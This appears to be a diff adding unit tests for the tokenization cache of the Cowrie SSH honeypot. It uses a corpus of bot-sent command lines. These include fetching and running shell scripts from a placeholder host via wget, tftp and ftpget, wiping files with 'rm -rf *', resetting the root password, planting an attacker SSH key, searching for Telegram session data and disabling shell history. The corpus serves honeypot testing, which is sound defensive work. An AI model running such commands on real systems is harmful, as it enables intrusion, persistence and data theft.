@@ -0,0 +1,152 @@
+from __future__ import annotations
+
+import os
+import shlex
+import time
+import unittest
+from unittest import mock
+
+from cowrie.shell.protocol import HoneyPotInteractiveProtocol, honeypot
+from cowrie.test.fake_server import FakeAvatar, FakeServer
+from cowrie.test.fake_transport import FakeTransport
+
+os.environ["COWRIE_HONEYPOT_DATA_PATH"] = "data"
+os.environ["COWRIE_SHELL_FILESYSTEM"] = "src/cowrie/data/fs.pickle"
+
+PROMPT = b"root@unitTest:~# "
+
+# Command lines as sent by bots, addresses replaced by documentation ones
+CORPUS = [
+    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
+    "wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; "
+    "tftp 192.0.2.10 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
+    "tftp -r tftp2.sh -g 192.0.2.10; chmod 777 tftp2.sh; sh tftp2.sh; "
+    "ftpget -v -u anonymous -p anonymous -P 21 192.0.2.10 ftp1.sh ftp1.sh; "
+    "sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    'echo "root:Xy12abCD"|chpasswd|bash',
+    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
+    "cd ~ && rm -rf .ssh && mkdir .ssh && echo "
+    '"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTO'
+    "rbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9Eu"
+    "WOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJO"
+    "K8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFn"
+    "vlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rB"
+    'LAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh '
+    "&& cd ~",
+    "uname -a;lspci | grep -i --color 'vga\\|3d\\|2d';dmidecode|grep Vendor|"
+    "head -n 1;uptime|awk '{print $3}'",
+    "enable; system; shell; sh; cat /proc/mounts; /bin/busybox ECCHI",
+    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+    "ls -lh $(which ls)",
+    'echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"',
+    "ps | grep '[Mm]iner'",
+    "ls -la ~/.local/share/TelegramDesktop/tdata "
+    "/home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /dev/ttyUSB-mod* "
+    "/var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd "
+    "/var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*",
+    "export HISTFILE=/dev/null; unset HISTFILE; echo ${HOME} $SHELL",
+    'echo "unterminated',
+]
+
+
+def shlex_tokens(line: str) -> list[str]:
+    lexer = shlex.shlex(instream=line, punctuation_chars=True, posix=True)
+    lexer.wordchars += "@%{}=$:+^,()`"
+    tokens = []
+    try:
+        while (tok := lexer.get_token()) is not None:
+            tokens.append(tok)
+    except ValueError:
+        pass
+    return tokens
+
+
+class TokenCacheTests(unittest.TestCase):
+    """Tests for the tokenization cache in cowrie/shell/honeypot.py"""
+
+    def setUp(self) -> None:
+        patcher = mock.patch.object(honeypot, "tokenCache", honeypot.LRUCache(1024))
+        patcher.start()
+        self.addCleanup(patcher.stop)
+        self.proto = HoneyPotInteractiveProtocol(FakeAvatar(FakeServer()))
+        self.tr = FakeTransport("", "31337")
+        self.proto.makeConnection(self.tr)
+        self.tr.clear()
+
+    def tearDown(self) -> None:
+        self.proto.connectionLost()
+
+    def run_line(self, line: str) -> bytes:
+        self.tr.clear()
+        self.proto.lineReceived(line.encode() + b"\n")
+        return self.tr.value()
+
+    def test_same_tokens(self) -> None:
+        for line in CORPUS:
+            tokens, err = honeypot.tokenize(line)
+            self.assertEqual(list(tokens), shlex_tokens(line))
+            self.assertEqual(err is not None, line == 'echo "unterminated')
+        self.assertEqual(len(honeypot.tokenCache), len(CORPUS))
+
+    def test_expansion_on_cached_tokens(self) -> None:
+        self.assertEqual(self.run_line("echo $X ${X}"), b"\n" + PROMPT)
+        self.proto.cmdstack[0].environ["X"] = "first"
+        self.assertEqual(self.run_line("echo $X ${X}"), b"first first\n" + PROMPT)
+        self.proto.cmdstack[0].environ["X"] = "second"
+        self.assertEqual(self.run_line("echo $X ${X}"), b"second second\n" + PROMPT)
+
+    def test_substitution_on_cached_tokens(self) -> None:
+        for _ in range(2):
+            self.assertEqual(
+                self.run_line("echo $(echo hi) `echo there`"), b"hi there\n" + PROMPT
+            )
+            self.assertEqual(self.run_line("(echo a; echo b)"), b"a\nb\n" + PROMPT)
+
+    def test_error_replayed(self) -> None:
+        first = self.run_line('echo "unterminated')
+        self.assertIn(b"syntax error", first)
+        self.assertEqual(self.run_line('echo "unterminated'), first)
+
+    def test_bounded(self) -> None:
+        with mock.patch.object(honeypot, "tokenCache", honeypot.LRUCache(4)):
+            for i in range(10):
+                honeypot.tokenize(f"echo {i}")
+            self.assertEqual(len(honeypot.tokenCache), 4)
+
+    def test_lexed_once(self) -> None:
+        """
+        Lines seen before are not run through shlex again
+        """
+        for line in CORPUS:
+            honeypot.tokenize(line)
+        with mock.patch.object(honeypot.shlex, "shlex") as lexer:
+            for line in CORPUS:
+                honeypot.tokenize(line)
+            lexer.assert_not_called()
+
+    @unittest.skipUnless(os.environ.get("COWRIE_BENCHMARK"), "set COWRIE_BENCHMARK")
+    def test_benchmark(self) -> None:
+        """
+        Time tokenizing the corpus with the cache and with a cache that
+        keeps nothing, so every line is lexed
+        """
+        rounds = 50
+        with mock.patch.object(honeypot, "tokenCache", honeypot.LRUCache(0)):
+            start = time.perf_counter()
+            for _ in range(rounds):
+                for line in CORPUS:
+                    honeypot.tokenize(line)
+            uncached = time.perf_counter() - start
+
+        start = time.perf_counter()
+        for _ in range(rounds):
+            for line in CORPUS:
+                honeypot.tokenize(line)
+        cached = time.perf_counter() - start
+
+        print(  # noqa: T201
+            f"\n{rounds} x {len(CORPUS)} command lines: uncached "
+            f"{uncached * 1000:.1f}ms, cached {cached * 1000:.1f}ms "
+            f"({uncached / cached:.1f}x)"
+        )